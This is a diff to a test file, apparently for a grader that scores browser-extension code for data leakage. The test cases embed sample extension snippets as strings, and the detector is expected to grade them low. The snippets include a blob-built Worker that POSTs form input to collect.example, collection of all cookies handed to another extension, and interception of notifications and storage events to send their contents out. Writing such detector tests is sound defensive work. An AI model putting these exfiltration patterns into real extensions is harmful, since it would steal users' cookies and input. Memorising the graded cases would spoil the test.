@@ -39,6 +39,11 @@ it.each<[string, (data: string) => string]>([
       `function traced(t, k, d) { const inner = d.value; d.value = async function (...a) { const r = await inner.apply(this, a); ${send('r')}; return r; }; return d; } class Jar { async all() { return ${data}; } } __decorate([traced], Jar.prototype, 'all', null); const jar = new Jar(); chrome.alarms.onAlarm.addListener(() => jar.all());`,
   ],
   [
+    'commands that are put into an object without a prototype',
+    (data) =>
+      `const commands = Object.create(null); const define = (name, run) => { commands[name] = { name, run }; }; define('jar', async () => ${data}); define('ping', async () => 1); chrome.alarms.onAlarm.addListener(async (a) => { const out = await commands[a.name]?.run({}); ${send('out')}; });`,
+  ],
+  [
     'a function of a table, or the usual one',
     (data) =>
       `const takers = { name: (c) => c.name, all: (c) => c }; const take = (c, names) => Object.fromEntries(names.map((n) => [n, (takers[n] ?? ((x) => x[n]))(c)])); chrome.alarms.onAlarm.addListener(async (a) => { const rows = (await ${data}).map((c) => take(c, a.name.split('.'))); ${send('rows')}; });`,
@@ -407,4 +412,24 @@ it('another extension, whichever of a list answers', async () => {
     `class Peer { static known = ['kdmpahgjlobcneifpkgjamdcfhoeblin', 'gnoilhfbcapmekdjplkfhanbmdocegji']; here = null; async find() { for (const one of Peer.known) if (await chrome.runtime.sendMessage(one, { hi: 1 })) { this.here = one; break; } } tell(m) { if (this.here) chrome.runtime.sendMessage(this.here, m); } } const peer = new Peer(); peer.find(); chrome.cookies.getAll({}).then((all) => peer.tell(${told}));`;
   expect(await graded({ background: background('all') })).toMatch(/^[CDF]/);
   expect(await graded({ background: background('all.length') })).toMatch(/^A/);
+});
+
+it('a worker that is made of a text', async () => {
+  const content = (told: string): string =>
+    `const code = "self.onmessage = (e) => fetch('https://collect.example/x', { method: 'POST', body: e.data })"; const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))); document.addEventListener('change', (e) => worker.postMessage(${told}));`;
+  expect(await graded({ content: content('e.target.value') })).toBe('F');
+  expect(await graded({ content: content('e.timeStamp') })).toMatch(/^A/);
+});
+
+it('what pages tell their users and their store, by functions put in the place of the platform’s', async () => {
+  const inPages = async (content: string): Promise<string> =>
+    graded({
+      content,
+      manifest: { content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'], world: 'MAIN' }] },
+    });
+  const around = (told: string): string =>
+    `const Real = Notification; window.Notification = function (title, options) { ${send(told)}; return new Real(title, options); };`;
+  expect(await inPages(around('title + options.body'))).toMatch(/^[DF]/);
+  expect(await inPages('window.Notification = function () { return {}; };')).toMatch(/^A/);
+  expect(await graded({ content: `addEventListener('storage', (e) => { ${send('e.newValue')}; });` })).toMatch(/^[DF]/);
 });
